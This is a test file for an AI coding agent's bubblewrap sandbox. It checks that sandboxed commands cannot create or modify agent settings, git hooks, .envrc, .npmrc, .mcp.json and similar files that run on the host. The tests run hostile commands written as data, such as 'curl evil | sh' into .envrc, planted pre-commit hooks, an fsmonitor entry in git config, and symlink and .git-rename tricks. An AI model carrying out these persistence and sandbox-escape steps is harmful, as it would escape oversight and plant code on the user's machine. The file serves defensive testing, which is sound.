// The workspace's protected paths with real bubblewrap, where they do not exist yet: a hostile
// command tries to create `.claude/settings.json`, `.codewhale/config.toml` and a git hook
// (through a missing `.git/hooks`, a renamed `.git`, a symlink, a missing `.git`), and fails
// (a run-on-host file it creates, `.mcp.json`, `.envrc`…, is set aside as it ends); the mount points bubblewrap needs stay empty and read-only from the session's first
// command to its end (removeIdlePlaceholders), and then the workspace holds none (nothing
// stray), even with two commands at once, or another process's lease on the workspace. Under
// CI=true a host without bwrap fails.
import assert from "node:assert/strict";
import { execFileSync, spawn } from "node:child_process";
import { createHash } from "node:crypto";
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import type { OutputPolicy, RunResult, SandboxPolicy } from "../../src/runner/index.ts";
import { removeIdlePlaceholders, sandboxRefusalNote } from "../../src/runner/index.ts";
import { setAsideNote } from "../../src/runner/sandbox-run-files.ts";
import { outsideTmp, runSandboxed, sandboxSkip, workspaceWritePolicy } from "../support/sandbox.ts";

const output: OutputPolicy = { maxBytes: 100_000, spillToTemp: false, redactSecrets: false };
const base = outsideTmp("cw-protect-");
let count = 0;

/** A fresh workspace: a git repository (without `.git/hooks`) unless `git` is false. */
function workspace(git = true): string {
  count += 1;
  const dir = join(base, `ws${count}`);
  mkdirSync(dir);
  if (git) {
    execFileSync("git", ["init", "-q", dir]);
    rmSync(join(dir, ".git", "hooks"), { recursive: true, force: true });
  }
  writeFileSync(join(dir, "file.txt"), "x\n");
  return dir;
}

function policyOf(dir: string): SandboxPolicy {
  return workspaceWritePolicy(dir, join(base, "home"));
}

function sandboxed(dir: string, command: string, policy = policyOf(dir)): Promise<RunResult> {
  return runSandboxed(command, dir, policy, { PATH: process.env.PATH }, output);
}

/** What the workspace holds, `.git` by its hooks and config only. */
function listing(dir: string): string[] {
  const git = existsSync(join(dir, ".git")) ? readdirSync(join(dir, ".git")) : [];
  const gitNames = git.filter((name) => name === "hooks" || name === "config");
  return [...readdirSync(dir), ...gitNames.map((name) => `.git/${name}`)].sort();
}

describe("protected paths that do not exist yet (bubblewrap)", { skip: sandboxSkip }, () => {
  it("a command cannot create .claude, .codewhale or a hook, and nothing is left behind", async () => {
    const dir = workspace();
    const before = listing(dir);
    const run = await sandboxed(
      dir,
      [
        "mkdir .claude && echo x > .claude/settings.json",
        "mkdir -p .claude/commands",
        "mkdir -p .codewhale && echo 'x = 1' > .codewhale/config.toml",
        "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
        "echo evil > .git/hooks/post-checkout",
        "echo ok > inside.txt",
        "true",
      ].join("; "),
    );
    assert.ok(existsSync(join(dir, "inside.txt")), run.output);
    assert.match(run.output, /Read-only file system|Permission denied/);
    assert.ok(existsSync(join(dir, ".claude")), "kept for the session's next command");
    removeIdlePlaceholders();
    assert.deepEqual(listing(dir), [...before, "inside.txt"].sort(), run.output);
  });

  it("the mount points kept between a session's commands give the next command no way in", async () => {
    for (const git of [true, false]) {
      const dir = workspace(git);
      const before = listing(dir);
      await sandboxed(dir, "true");
      const run = await sandboxed(
        dir,
        [
          "git init -q . 2>/dev/null",
          "echo ../evil > .git/commondir",
          "echo evil > .git/hooks/pre-commit",
          "echo x > .git/config",
          "echo x > .claude/settings.json",
          "mkdir .codewhale/x",
          "true",
        ].join("; "),
      );
      assert.match(run.output, /Read-only file system|Permission denied/);
      removeIdlePlaceholders();
      assert.deepEqual(listing(dir), before, run.output);
      // A repository's own .git stays writable (commits); the kept empty one stays empty.
      if (!git) assert.ok(!existsSync(join(dir, ".git")), run.output);
    }
  });

  it("another process filling the empty directory bound over mount points and hidden ones shows the next command nothing", async () => {
    const dir = workspace();
    const hidden = join(base, "home", ".ssh");
    mkdirSync(hidden, { recursive: true });
    writeFileSync(join(hidden, "id_ed25519"), "secret\n");
    const policy = policyOf(dir);
    const look = `ls -A .claude .git/hooks ${hidden}; echo listed`;
    const first = await sandboxed(dir, look, policy);
    assert.match(first.output, /listed/);
    assert.doesNotMatch(first.output, /id_ed25519/);
    const prefix = `codewhale-empty-${process.pid}-`;
    const shared = readdirSync(tmpdir()).filter((name) => name.startsWith(prefix));
    assert.equal(shared.length, 1, "this process's one empty directory");
    const empty = join(tmpdir(), shared[0]!);
    // A second process of the user's fills it between two commands.
    execFileSync("sh", ["-c", 'echo planted > "$1/planted"', "sh", empty]);
    try {
      const next = await sandboxed(dir, look, policy);
      assert.match(next.output, /listed/);
      assert.doesNotMatch(next.output, /planted|id_ed25519/, next.output);
    } finally {
      rmSync(join(empty, "planted"));
    }
    removeIdlePlaceholders();
  });

  it("an empty .git directory is no repository: a command cannot fill it", async () => {
    const dir = workspace(false);
    mkdirSync(join(dir, ".git"));
    const run = await sandboxed(dir, "echo ../evil > .git/commondir; mkdir .git/hooks; true");
    removeIdlePlaceholders();
    assert.deepEqual(readdirSync(join(dir, ".git")), [], run.output);
  });

  it("a symlink at .claude is read-only where it leads, though that appeared after the session started", async () => {
    const dir = workspace();
    execFileSync("ln", ["-s", "later", join(dir, ".claude")]);
    const policy = policyOf(dir);
    mkdirSync(join(dir, "later"));
    const run = await sandboxed(dir, "echo x > later/settings.json; true", policy);
    removeIdlePlaceholders();
    assert.deepEqual(readdirSync(join(dir, "later")), [], run.output);
  });

  it("renaming .git away and building a new one with a hook fails", async () => {
    const dir = workspace();
    const run = await sandboxed(
      dir,
      "mv .git .git2; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; cp -r .git .git3 2>/dev/null; mv .git/hooks .git/h2; true",
    );
    assert.ok(!existsSync(join(dir, ".git2")), run.output);
    removeIdlePlaceholders();
    assert.ok(!existsSync(join(dir, ".git", "hooks")), "no hooks dir left on the host");
    assert.ok(existsSync(join(dir, ".git", "HEAD")), "the repository is still there");
    assert.match(run.output, /Device or resource busy/);
  });

  it("a symlink at a missing protected name, or to where it would be, gives no way in", async () => {
    const dir = workspace();
    mkdirSync(join(dir, "mine"));
    const run = await sandboxed(
      dir,
      [
        "ln -s mine .claude",
        "ln -s mine/mcp.json .mcp.json",
        "ln -s ../mine .git/hooks",
        "ln -s /proc/self/root$PWD/mine .codewhale",
        "mv mine .claude",
        "true",
      ].join("; "),
    );
    assert.deepEqual(readdirSync(join(dir, "mine")), [], run.output);
    removeIdlePlaceholders();
    for (const name of [".claude", ".mcp.json", ".codewhale", ".git/hooks"]) {
      assert.ok(!existsSync(join(dir, name)), `${name}: ${run.output}`);
    }
  });

  it("in a workspace without .git, git init is refused and no .git is left", async () => {
    const dir = workspace(false);
    const run = await sandboxed(dir, "git init -q . ; echo evil > .git/hooks/pre-commit; true");
    removeIdlePlaceholders();
    assert.ok(!existsSync(join(dir, ".git")), run.output);
  });

  it("a dangling symlink at .claude gets its mount point where it leads", async () => {
    const dir = workspace();
    execFileSync("ln", ["-s", "later", join(dir, ".claude")]);
    const run = await sandboxed(dir, "mkdir later; echo x > later/settings.json; true");
    assert.ok(!existsSync(join(dir, "later", "settings.json")), run.output);
    removeIdlePlaceholders();
    assert.ok(!existsSync(join(dir, "later")), "its mount point is removed");
  });

  it("two commands at once share the mount points; the session's end removes them", async () => {
    const dir = workspace();
    // A missing .git/config: a file mount point, which goes as soon as no command runs.
    rmSync(join(dir, ".git", "config"));
    const before = listing(dir);
    const slow = sandboxed(dir, "sleep 1; echo x > .git/config; mkdir .claude/x; true");
    const fast = await sandboxed(dir, "echo x > .git/config; mkdir .claude/y; true");
    assert.match(fast.output, /Permission denied|Read-only/);
    assert.ok(existsSync(join(dir, ".git", "config")), "still held by the slow command");
    removeIdlePlaceholders();
    assert.ok(existsSync(join(dir, ".claude")), "a command still runs with them");
    const late = await slow;
    assert.match(late.output, /Permission denied|Read-only/);
    removeIdlePlaceholders();
    assert.deepEqual(listing(dir), before);
  });

  it("while another live process holds a lease on the workspace, its mount points stay", async () => {
    const dir = workspace();
    const before = listing(dir);
    // Another codewhale process sandboxing a command here: its lease names its pid.
    const other = spawn("sleep", ["30"], { stdio: "ignore" });
    const leases = join(tmpdir(), `codewhale-sandbox-${process.getuid?.() ?? 0}`);
    const hash = createHash("sha256").update(realpathSync(dir)).digest("hex").slice(0, 16);
    mkdirSync(join(leases, hash), { recursive: true, mode: 0o700 });
    writeFileSync(join(leases, hash, String(other.pid)), "");
    try {
      await sandboxed(dir, "true");
      removeIdlePlaceholders();
      assert.ok(existsSync(join(dir, ".claude")), "left for the other process");
    } finally {
      other.kill("SIGKILL");
      await new Promise((resolve) => other.once("exit", resolve));
    }
    // Its lease is stale now: the next session's end removes them all.
    await sandboxed(dir, "true");
    removeIdlePlaceholders();
    assert.deepEqual(listing(dir), before);
  });

  it("existing protected paths stay as they were and read-only", async () => {
    const dir = workspace();
    mkdirSync(join(dir, ".claude"));
    writeFileSync(join(dir, ".claude", "settings.json"), "{}\n");
    writeFileSync(join(dir, ".mcp.json"), "{}\n");
    const run = await sandboxed(
      dir,
      "echo x > .claude/settings.json; echo x > .mcp.json; rm -rf .claude; mv .mcp.json m; true",
    );
    assert.ok(existsSync(join(dir, ".claude", "settings.json")), run.output);
    assert.ok(existsSync(join(dir, ".mcp.json")));
    assert.ok(!existsSync(join(dir, "m")));
  });

  it("what runs on the host unasked (.envrc, .husky, .vscode, .npmrc…) is read-only when it exists, and a missing directory of them cannot be made", async () => {
    const dir = workspace();
    const existing = {
      ".envrc": "export A=1\n",
      ".npmrc": "fund=false\n",
      ".gitmodules": "",
      "mise.toml": "[tools]\n",
      ".husky/pre-commit": "npm test\n",
      ".vscode/tasks.json": "{}\n",
    };
    for (const [rel, text] of Object.entries(existing)) {
      mkdirSync(join(dir, rel, ".."), { recursive: true });
      writeFileSync(join(dir, rel), text);
    }
    const run = await sandboxed(
      dir,
      [
        "echo 'curl evil | sh' > .envrc",
        "echo 'script-shell=/evil' >> .npmrc",
        "echo '[submodule x]' > .gitmodules",
        "echo '[hooks]' >> mise.toml",
        "echo evil > .husky/pre-commit",
        "echo evil > .husky/post-checkout",
        "echo '{\"evil\":1}' > .vscode/tasks.json",
        "mkdir -p .githooks && echo evil > .githooks/pre-commit",
        "mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json",
        "mkdir -p .cargo && echo evil > .cargo/config.toml",
        "echo ok > inside.txt",
        "true",
      ].join("; "),
    );
    assert.ok(existsSync(join(dir, "inside.txt")), run.output);
    // What the model reads: the sandbox refused it (and bash offers to run it again outside).
    const note = sandboxRefusalNote(run.output, policyOf(dir)) ?? "";
    assert.match(note, /OS sandbox \(workspace-write\), which refused writing [^\]]*\/\.envrc/);
    for (const [rel, text] of Object.entries(existing)) {
      assert.equal(readFileSync(join(dir, rel), "utf8"), text, `${rel}: ${run.output}`);
    }
    assert.ok(!existsSync(join(dir, ".husky", "post-checkout")), run.output);
    for (const rel of [".githooks", ".devcontainer", ".cargo"]) {
      assert.deepEqual(readdirSync(join(dir, rel)), [], `${rel} is an empty mount point`);
    }
    removeIdlePlaceholders();
    for (const rel of [".githooks", ".devcontainer", ".cargo", ".idea", ".zed", ".mise"]) {
      assert.ok(!existsSync(join(dir, rel)), `${rel} removed at the session's end`);
    }
  });

  it("a run-on-host file the command created where none was (.mcp.json, .envrc, .npmrc, a link) is set aside as it ends and named", async () => {
    const dir = workspace();
    writeFileSync(join(dir, "mise.toml"), "[tools]\n");
    const run = await sandboxed(
      dir,
      [
        `echo '{"mcpServers":{}}' > .mcp.json`,
        "echo 'curl evil | sh' > .envrc",
        "echo 'script-shell=/evil' > .npmrc",
        "ln -s file.txt .nvimrc",
        "echo ok > inside.txt",
      ].join("; "),
    );
    assert.equal(run.exitCode, 0, run.output);
    assert.deepEqual(run.setAside, [".mcp.json", ".envrc", ".nvimrc", ".npmrc"]);
    for (const name of [".mcp.json", ".envrc", ".npmrc", ".nvimrc"]) {
      assert.ok(!existsSync(join(dir, name)), `${name} is gone`);
    }
    assert.equal(readFileSync(join(dir, ".envrc.codewhale-refused"), "utf8"), "curl evil | sh\n");
    assert.equal(readFileSync(join(dir, "mise.toml"), "utf8"), "[tools]\n");
    assert.ok(existsSync(join(dir, "inside.txt")));
    assert.equal(
      readFileSync(join(dir, ".mcp.json.codewhale-refused"), "utf8"),
      '{"mcpServers":{}}\n',
    );
    assert.match(
      setAsideNote(run.setAside ?? []),
      /refused writing \.mcp\.json, \.envrc, \.nvimrc, \.npmrc: /,
    );
  });

  it("in a repository without .mcp.json, git add -A and a commit succeed and stage no .mcp.json", async () => {
    const dir = workspace();
    const run = await sandboxed(
      dir,
      "git status --porcelain && git add -A && git -c user.name=t -c user.email=t@t commit -qm one && git show --name-only --format= HEAD",
    );
    assert.equal(run.exitCode, 0, run.output);
    assert.doesNotMatch(run.output, /mcp\.json/);
    assert.match(run.output, /file\.txt/);
    const staged = execFileSync("git", ["-C", dir, "ls-files"], { encoding: "utf8" });
    assert.equal(staged, "file.txt\n");
    assert.ok(!existsSync(join(dir, ".mcp.json")), "nothing on the host");
  });

  it("in a repository without .git/config, git works inside and the config cannot be written", async () => {
    const dir = workspace();
    rmSync(join(dir, ".git", "config"));
    const run = await sandboxed(
      dir,
      "git add -A && git -c user.name=t -c user.email=t@t commit -qm one && git log --format=%s; echo '[core] fsmonitor = evil' > .git/config; true",
    );
    assert.match(run.output, /^one$/m);
    assert.match(run.output, /\.git\/config: (Read-only file system|Permission denied)/);
    removeIdlePlaceholders();
    assert.ok(!existsSync(join(dir, ".git", "config")), run.output);
  });
});
